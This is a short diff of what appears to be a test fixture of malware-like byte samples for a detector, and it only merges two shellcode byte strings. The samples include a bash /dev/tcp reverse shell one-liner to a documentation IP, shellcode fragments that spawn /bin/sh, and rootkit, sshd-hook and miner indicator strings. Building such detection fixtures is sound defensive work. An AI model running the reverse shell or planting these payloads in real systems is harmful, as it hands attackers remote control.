@@ -16,7 +16,7 @@ ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00" + bytes(100)
 SAMPLES = {
     "reverse_shell_one_liner": b"bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
     "shellcode_connects_back_x86_64": ELF + b"\x6a\x29\x58\x99\x0f\x05"
-    + b"\x6a\x21\x58\x0f\x05" + b"\x6a\x3b\x58\x99\x0f\x05/bin//sh",
+    + b"\x6a\x21\x58\x0f\x05\x6a\x3b\x58\x99\x0f\x05/bin//sh",
     "preload_rootkit": ELF + b"/etc/ld.so.preload\0dlsym\0readdir\0/proc/net/tcp\0authorized_keys\0/bin/sh\0accept\0",
     "sshd_key_hook": ELF + b"RSA_public_decrypt\0/usr/sbin/sshd\0LD_BIND_NOT\0",
     "miner": b"stratum+tcp://pool.test:3333 --donate-level 1",
